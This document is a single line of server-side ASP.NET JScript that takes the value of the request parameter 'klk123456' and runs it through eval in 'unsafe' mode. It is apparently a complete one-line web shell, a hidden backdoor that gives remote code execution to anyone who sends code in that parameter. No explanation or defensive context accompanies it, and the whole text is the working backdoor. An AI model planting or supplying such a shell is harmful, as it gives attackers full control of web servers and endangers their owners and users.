<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>
